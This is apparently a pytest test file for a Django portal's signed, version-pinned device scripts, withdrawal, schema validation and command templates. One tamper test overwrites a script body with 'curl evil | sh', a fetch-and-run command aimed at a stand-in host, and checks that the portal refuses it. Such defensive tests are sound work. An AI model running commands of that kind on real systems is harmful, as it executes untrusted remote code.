"""Stored scripts: signed, pinned, withdrawn; and commands saved to use again."""

import base64
import json
from datetime import timedelta

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from django.test import override_settings
from rest_framework.test import APIClient

from audit.models import AuditEntry
from commands.models import Command, CommandTemplate, Script, ScriptVersion
from commands.tests.factories import CommandFactory
from commands.tests.library import stored_script
from common import clock, signing
from devices.tests.factories import DeviceFactory, token_of

SCHEMA = {
    "properties": {"unit": {"type": "string", "maxLength": 20}, "lines": {"type": "integer"}},
    "required": ["unit"],
}
SCRIPT = {"name": "greet", "body": "echo hi\n", "arguments_schema": SCHEMA, "timeout_s": 20}


def order(api, device, **payload):
    return api.post(
        f"/api/v1/devices/{device.device_id}/commands",
        {"type": "run_script", "payload": {"script": "greet", **payload}},
    )


def document_of(device_api, command_id):
    return device_api.get(f"/api/v1/commands/{command_id}/script")


def test_a_stored_script_reaches_its_device_under_the_portals_signature(
    admin_api, device, device_api
):
    assert admin_api.post("/api/v1/scripts", SCRIPT).status_code == 201
    ordered = order(admin_api, device, arguments={"unit": "nginx"})
    assert ordered.status_code == 201, ordered.content

    sent = document_of(device_api, ordered.json()["id"]).json()
    keys = device_api.get(f"/api/v1/devices/{device.device_id}/config").json()["signing_keys"]

    key = {one["key_id"]: one["public_key"] for one in keys}[sent["key_id"]]
    public = Ed25519PublicKey.from_public_bytes(base64.b64decode(key))
    public.verify(base64.b64decode(sent["signature"]), sent["document"].encode())
    document = json.loads(sent["document"])
    assert sent["document"] == json.dumps(document, sort_keys=True, separators=(",", ":"))
    assert sorted(document) == [
        "arguments_schema", "body", "interpreter", "name", "organization", "output_bytes",
        "timeout_s", "version",
    ]  # fmt: skip
    assert (document["name"], document["version"], document["body"]) == ("greet", 1, "echo hi\n")
    assert document["organization"] == "acme"


def test_an_order_pins_the_newest_version_and_keeps_it(admin_api, device, device_api):
    admin_api.post("/api/v1/scripts", SCRIPT)
    ordered = order(admin_api, device, arguments={"unit": "a"}).json()
    newer = {"body": "reboot\n", "disruptive": True, "timeout_s": 5}
    assert admin_api.post("/api/v1/scripts/greet/versions", newer).json()["version"] == 2

    old = json.loads(document_of(device_api, ordered["id"]).json()["document"])
    later = order(admin_api, device).json()

    assert ordered["payload"]["version"] == old["version"] == 1
    assert (ordered["disruptive"], ordered["run_timeout_s"]) == (False, 80)
    assert later["payload"]["version"] == 2
    assert (later["disruptive"], later["run_timeout_s"]) == (True, 65)


@pytest.mark.parametrize(
    "arguments", [{}, {"unit": 5}, {"unit": "a", "other": "b"}, {"unit": "x" * 21}]
)
def test_arguments_have_to_fit_the_version(admin_api, device, arguments):
    admin_api.post("/api/v1/scripts", SCRIPT)

    refused = order(admin_api, device, arguments=arguments)

    assert (refused.status_code, refused.json()["code"]) == (422, "payload_refused")
    assert Command.objects.count() == 0


def test_a_script_nobody_stored_is_not_queued(admin_api, device, other_organization):
    stored_script(other_organization)
    assert order(admin_api, device).json()["code"] == "script_unknown"

    admin_api.post("/api/v1/scripts", {**SCRIPT, "arguments_schema": {}})
    assert order(admin_api, device, version=2).json()["code"] == "script_unknown"
    assert order(admin_api, device, version=1).status_code == 201


def test_withdrawing_cancels_what_waits_and_keeps_the_text_from_who_holds_it(
    admin_api, device, device_api, organization
):
    script = stored_script(organization)
    waiting = order(admin_api, device).json()["id"]
    held = CommandFactory(
        device=device,
        kind="run_script",
        status="delivered",
        attempt=1,
        lease_expires_at=clock.now() + timedelta(minutes=1),
        payload={"script": "greet", "version": 1, "arguments": {}},
    )
    other = CommandFactory(device=device, kind="ping", payload={})

    assert admin_api.post("/api/v1/scripts/greet/withdraw").json()["withdrawn_at"]
    assert admin_api.post("/api/v1/scripts/greet/withdraw").status_code == 200

    ended = Command.objects.get(pk=waiting)
    assert (ended.status, ended.error_code) == ("cancelled", "script_withdrawn")
    assert Command.objects.get(pk=other.pk).status == "queued"
    assert document_of(device_api, held.pk).json()["code"] == "script_withdrawn"
    assert order(admin_api, device).json()["code"] == "script_withdrawn"
    newer = admin_api.post("/api/v1/scripts/greet/versions", {"body": "echo\n"})
    assert newer.json()["code"] == "script_withdrawn"
    entry = AuditEntry.objects.get(action="script.withdraw")
    assert (entry.target_id, entry.after) == (str(script.pk), {"runs_cancelled": 1})


def test_a_text_changed_behind_the_portals_back_goes_to_no_device(
    admin_api, device, device_api, organization
):
    stored_script(organization)
    ordered = order(admin_api, device).json()["id"]
    ScriptVersion.objects.update(body="curl evil | sh\n")

    refused = document_of(device_api, ordered)

    assert (refused.status_code, refused.json()["code"]) == (409, "script_untrusted")


def test_a_device_reads_the_scripts_of_its_own_runs_only(
    admin_api, device, organization, device_api
):
    stored_script(organization)
    neighbour = DeviceFactory(organization=organization)
    ordered = order(admin_api, neighbour).json()["id"]

    assert document_of(device_api, ordered).status_code == 404
    assert document_of(admin_api, ordered).status_code == 403
    own = APIClient(headers={"X-Device-Token": token_of(neighbour)})
    assert document_of(own, ordered).status_code == 200


@pytest.mark.parametrize(
    "schema",
    [
        {"properties": {"a": {"type": "string", "pattern": "(a+)+$"}}},
        {"properties": {"a": {"$ref": "http://example.org/x"}}},
        {"properties": {"a-b": {"type": "string"}}},
        {"properties": {"a": {"type": "object"}}},
        {"required": ["a"]},
        {"additionalProperties": True},
        {"properties": {"a": {"type": "string", "maxLength": "x"}}},
    ],
    ids=["pattern", "reference", "name", "type", "undefined", "open", "keyword"],
)
def test_a_schema_says_nothing_that_a_device_could_not_check(admin_api, schema):
    refused = admin_api.post("/api/v1/scripts", {**SCRIPT, "arguments_schema": schema})

    assert (refused.status_code, refused.json()["code"]) == (422, "payload_refused")
    assert not Script.objects.exists()


def test_line_ends_of_a_browser_do_not_reach_a_shell(admin_api):
    admin_api.post("/api/v1/scripts", {**SCRIPT, "body": "echo a\r\necho b\r\n"})

    assert ScriptVersion.objects.get().body == "echo a\necho b\n"


def test_a_name_is_taken_once_for_each_organisation(admin_api, stranger_api):
    assert admin_api.post("/api/v1/scripts", SCRIPT).status_code == 201
    assert admin_api.post("/api/v1/scripts", SCRIPT).json()["code"] == "name_taken"
    assert stranger_api.post("/api/v1/scripts", SCRIPT).status_code == 201


def test_only_admins_store_scripts_and_everybody_reads_them(admin_api, operator_api, viewer_api):
    assert operator_api.post("/api/v1/scripts", SCRIPT).status_code == 403
    admin_api.post("/api/v1/scripts", SCRIPT)

    assert viewer_api.get("/api/v1/scripts/greet/versions").json()["results"][0]["version"] == 1
    assert viewer_api.get("/api/v1/scripts/greet").json()["version"] == 1


def test_without_a_key_nothing_is_signed_and_the_step_to_take_is_named(admin_api):
    with override_settings(SIGNING_KEY=""):
        refused = admin_api.post("/api/v1/scripts", SCRIPT)

        assert signing.public_keys() == []
    assert (refused.status_code, refused.json()["code"]) == (409, "signing_key_missing")
    assert "SIGNING_KEY" in refused.json()["detail"]


def test_a_signing_key_is_read_as_hex_or_base64():
    seed = bytes(range(32))

    assert signing.seed_of(seed.hex()) == seed
    assert signing.seed_of(base64.b64encode(seed).decode()) == seed
    for wrong in ("", "short", "zz" * 32, base64.b64encode(seed[:31]).decode()):
        with pytest.raises(ValueError, match=r"\w"):
            signing.seed_of(wrong)


def test_a_command_is_made_from_a_template(operator_api, device):
    saved = operator_api.post(
        "/api/v1/command-templates",
        {
            "name": "Restart the web server",
            "type": "restart_service",
            "payload": {"service": "nginx"},
            "options": {"priority": "high", "retries": {"network": 2}},
        },
    )
    assert saved.status_code == 201, saved.content

    made = operator_api.post(
        f"/api/v1/devices/{device.device_id}/commands", {"template": saved.json()["id"]}
    ).json()

    assert (made["type"], made["payload"]) == ("restart_service", {"service": "nginx"})
    assert (made["priority"], made["retries"]) == (50, {"network": 2})


def test_a_template_has_to_fit_its_type(operator_api):
    refused = operator_api.post(
        "/api/v1/command-templates", {"name": "x", "type": "restart_service", "payload": {}}
    )
    unknown = operator_api.post("/api/v1/command-templates", {"name": "x", "type": "dance"})

    assert refused.json()["code"] == "payload_refused"
    assert unknown.json()["code"] == "unknown_command_type"
    assert not CommandTemplate.objects.exists()


def test_a_template_is_changed_and_thrown_away(operator_api):
    saved = operator_api.post("/api/v1/command-templates", {"name": "one", "type": "ping"}).json()
    url = f"/api/v1/command-templates/{saved['id']}"
    operator_api.post("/api/v1/command-templates", {"name": "two", "type": "ping"})

    assert operator_api.patch(url, {"name": "two"}).json()["code"] == "name_taken"
    assert operator_api.patch(url, {"description": "d"}).json()["description"] == "d"
    assert operator_api.delete(url).status_code == 204
    assert list(CommandTemplate.objects.values_list("name", flat=True)) == ["two"]
